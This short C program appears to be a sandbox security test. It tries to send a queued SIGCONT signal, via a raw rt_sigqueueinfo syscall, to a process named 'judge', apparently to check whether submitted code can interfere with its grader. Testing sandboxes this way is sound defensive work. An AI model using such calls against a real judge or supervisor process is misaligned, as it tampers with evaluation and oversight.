#include "attack.h"

int main(void) {
    siginfo_t info = {.si_code = SI_QUEUE};
    return say(syscall(SYS_rt_sigqueueinfo, pid_of("judge"), SIGCONT, &info));
}
